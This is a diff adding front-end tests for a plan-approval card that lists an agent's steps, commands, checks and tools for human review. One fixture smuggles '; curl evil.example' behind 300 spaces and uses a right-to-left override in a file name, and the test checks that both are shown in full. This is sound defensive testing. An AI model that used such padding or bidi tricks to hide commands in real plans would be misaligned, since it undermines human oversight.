@@ -28,6 +28,38 @@ it("shows steps, tools, risks and times", async () => {
   await expectAccessible(container);
 });
 
+it("shows every command, check, path and tool whole and escaped", () => {
+  const tail = `true${" ".repeat(300)}; curl evil.example`;
+  const plan = readPlan({ goal: "x", steps: [{ id: "1", action: "Do", paths: ["a\u202Etxt"], commands: [`ls ${tail}`], check: tail, tools_needed: ["delete_file"] }] })!;
+  card({ plan });
+  const code = (text: string) => screen.getByText((_, element) => element?.tagName === "CODE" && element.textContent === text);
+  for (const text of ["a⟨U+202E⟩txt", `ls ${tail}`, tail, "delete_file"]) {
+    expect(code(text).className).toContain("whitespace-pre-wrap");
+    expect(code(text).className).not.toContain("truncate");
+  }
+});
+
+it("waits with executing until every step was in view", () => {
+  vi.stubGlobal("IntersectionObserver", class { observe() {} disconnect() {} });
+  const { onExecute } = card();
+  const button = screen.getByRole("button", { name: "Execute plan" });
+  expect(button).toHaveProperty("disabled", true);
+  expect(screen.getByText(/Scroll through every step/)).toBeTruthy();
+  button.click();
+  expect(onExecute).not.toHaveBeenCalled();
+  vi.unstubAllGlobals();
+});
+
+it("keeps check and tools in view while it is edited", async () => {
+  const { onExecute } = card({ plan: readPlan({ goal: "x", steps: [{ id: "1", action: "Do", check: "make test", tools_needed: ["write"] }] })! });
+  await userEvent.click(screen.getByRole("button", { name: "Edit" }));
+  expect(screen.getByLabelText("Check of step 1")).toHaveProperty("value", "make test");
+  expect(screen.getByLabelText("Tools of step 1")).toHaveProperty("value", "write");
+  await userEvent.clear(screen.getByLabelText("Check of step 1"));
+  await userEvent.click(screen.getByRole("button", { name: "Execute edited plan" }));
+  expect(onExecute.mock.calls[0]![0]!.steps[0]!.check).toBeNull();
+});
+
 it("executes the plan as it stands", async () => {
   const { onExecute } = card();
   await userEvent.click(screen.getByRole("button", { name: "Execute plan" }));
